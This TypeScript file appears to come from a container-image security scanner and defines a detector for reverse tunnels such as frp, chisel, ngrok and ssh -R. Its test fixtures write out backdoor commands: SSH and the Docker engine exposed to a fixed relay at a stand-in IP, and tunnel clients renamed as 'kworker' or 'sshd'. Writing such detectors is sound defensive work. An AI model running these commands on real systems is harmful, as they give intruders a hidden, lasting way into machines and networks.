import type { TunnelEffect } from '../trace/effect.ts';
import { isRenamedTunnel } from '../trace/effects/tunnels.ts';
import { literals, render, textOf } from '../trace/value.ts';
import { saysOf } from './declared.ts';
import { destinationOf } from './destinations.ts';
import type { Detector, Scene } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { payloadOf } from './payload.ts';
import type { Threat } from './severity.ts';
import { chainOf, findingOf, type Sighting, sightingOf } from './sighting.ts';
import { clip, valueWords } from './wording.ts';

/** A way in through somebody's relay. */
export const tunnel: Detector = {
  id: 'tunnel',
  version: 1,
  title: 'Opens a way in from outside, through a relay.',
  attack: ['T1572', 'T1090', 'T1133'],
  description: `
frp, chisel, ngrok, cloudflared, \`ssh -R\` and their like connect outwards and let others in, past every firewall. People use
them to publish a service; intruders use them to keep a way in. *Malicious* when the client runs under another name, when it
opens a shell, SSH or the container engine to a fixed relay, or stands beside another payload. *Suspicious* when it goes to a
relay that the image fixes without saying that it is a tunnel. A *note* when whoever runs the image chooses the relay or gives
the token, for a declared tunnel, and for private networks (tailscale, zerotier).
`,
  fires: [
    {
      name: 'SSH of the machine to a fixed relay',
      image: {
        cmd: ['sh', '-c', '/usr/sbin/sshd; ssh -N -o StrictHostKeyChecking=no -R 2222:localhost:22 x@203.0.113.9'],
      },
    },
    {
      name: 'chisel under another name',
      image: { cmd: ['sh', '-c', '/usr/bin/kworker client 203.0.113.9:8080 R:socks &'] },
    },
    {
      name: 'frp under another name',
      image: { cmd: ['sh', '-c', './sshd tcp --server-addr=203.0.113.9:7000 --local-port=22 --remote-port=6000'] },
    },
    { name: 'the engine to anybody', image: { cmd: ['sh', '-c', 'ngrok tcp 2375 --authtoken abcdef'] } },
    {
      name: 'a fixed relay',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'chisel client relay.tool.example:443 R:8080:localhost:8080 & exec app'] },
    },
    {
      name: 'a private network',
      severity: 'note',
      image: { cmd: ['sh', '-c', 'tailscaled & tailscale up --authkey=$TS_AUTHKEY; exec app'] },
    },
  ],
  silent: [
    {
      name: 'a declared tunnel',
      severity: 'note',
      image: {
        name: 'docker.io/someones/cloudflared:1',
        entrypoint: ['cloudflared', '--no-autoupdate'],
        cmd: ['tunnel', 'run'],
      },
    },
    {
      name: 'a relay that the user chooses',
      severity: 'note',
      image: { cmd: ['sh', '-c', 'autossh -N -R $REMOTE_PORT:localhost:80 $REMOTE_USER@$REMOTE_HOST'] },
    },
    {
      name: 'a token that the user gives',
      severity: 'note',
      image: { cmd: ['sh', '-c', 'cloudflared tunnel run --token "$TUNNEL_TOKEN"'] },
    },
    { name: 'a forward inwards', image: { cmd: ['sh', '-c', 'ssh -N -L 5432:db:5432 jump.example'] } },
    { name: 'a version', image: { cmd: ['ngrok', 'version'] } },
  ],
  detect(scene) {
    return effectsOf(scene, 'tunnel').flatMap((effect) => {
      if (effect.how === 'onion' || effect.tool.startsWith('tor')) return [];
      const sighting = sightingOf(scene, effect);
      const declared = isDeclared(scene, effect);
      const { threat, because } = judge(scene, effect, sighting, declared);
      const to = effect.to ? ` through ${valueWords(effect.to, 80)}` : '';
      const exposed = effect.exposes ? ` (${clip(render(effect.exposes), 60)})` : '';
      return findingOf(scene, sighting, {
        threat,
        title: `${ways[effect.how]} with ${effect.tool}${to}${exposed}`,
        because,
        ...(isRenamedTunnel(effect.tool) ? { attack: ['T1036.005'] } : {}),
        effects: [effect.id],
        encodingDeceives: threat !== 'minor',
      });
    });
  },
};

const ways = {
  reverse: 'Lets others in from outside',
  proxy: 'Passes traffic to a relay',
  overlay: 'Joins a private network',
  onion: 'Goes through Tor',
} as const;

function judge(
  scene: Scene,
  effect: TunnelEffect,
  sighting: Sighting,
  declared: boolean,
): { readonly threat: Threat; readonly because?: string } {
  if (isRenamedTunnel(effect.tool))
    return { threat: 'hostile', because: 'The program bears another name: only its arguments show what it is.' };
  if (effect.how === 'overlay' || effect.how === 'proxy' || declared) return { threat: 'minor' };
  const given = isGiven(effect, sighting);
  const door = given ? undefined : doorOf(render(effect.exposes ?? []));
  if (door) return { threat: 'hostile', because: `It opens ${door} to a relay that the image fixes.` };
  const payload = given ? undefined : payloadOf(scene, chainOf(scene.story, sighting.stage)[0]?.id);
  if (payload?.worst === 'hostile') return { threat: 'hostile', because: `The same code runs ${payload.what}.` };
  return given
    ? { threat: 'minor' }
    : { threat: 'dual-use', because: 'The image fixes the relay, and does not say that it opens a tunnel.' };
}

/** Whether whoever runs the image says where to, or whose account it is. */
function isGiven(effect: TunnelEffect, sighting: Sighting): boolean {
  const words = sighting.command?.argv ?? [];
  const token = words.findIndex((word) => /^--?(token|authtoken|authkey|auth-token)(=|$)/.test(literals(word)));
  if (token > 0) {
    const value = literals(words[token] ?? []).includes('=') ? words[token] : words[token + 1];
    return value !== undefined && textOf(value) === undefined;
  }
  if (effect.to === undefined) return words.slice(1).some((word) => textOf(word) === undefined);
  if (textOf(effect.to) === undefined) return true;
  const vendor = !/[.:@]/.test(render(effect.to));
  return vendor || destinationOf(effect.to).kind === 'local';
}

/** What is behind a port, where handing it to others hands over the machine. */
function doorOf(exposes: string): string | undefined {
  const port = /(?:^|[:/])(\d{1,5})\/?$/.exec(exposes)?.[1];
  if (/R:socks|(^|:)socks$|^socks5?:/.test(exposes)) return 'the network it stands in';
  return port === undefined ? undefined : doors.get(port);
}

const doors: ReadonlyMap<string, string> = new Map([
  ['22', 'the SSH server'],
  ['23', 'a telnet server'],
  ['2375', 'the container engine'],
  ['2376', 'the container engine'],
  ['3389', 'a remote desktop'],
  ['5900', 'a remote desktop'],
  ['5901', 'a remote desktop'],
  ['6443', 'the cluster'],
  ['10250', 'the kubelet'],
]);

function isDeclared(scene: Scene, effect: TunnelEffect): boolean {
  const own = effect.tool
    .toLowerCase()
    .split(/[^a-z0-9]+/)
    .filter((word) => word.length > 2);
  return saysOf(scene, [
    ...own,
    'tunnel',
    'frp',
    'relay',
    'autossh',
    'reverse',
    'vpn',
    'localtunnel',
    'chisel',
    'ngrok',
    'cloudflared',
    'bastion',
  ]);
}
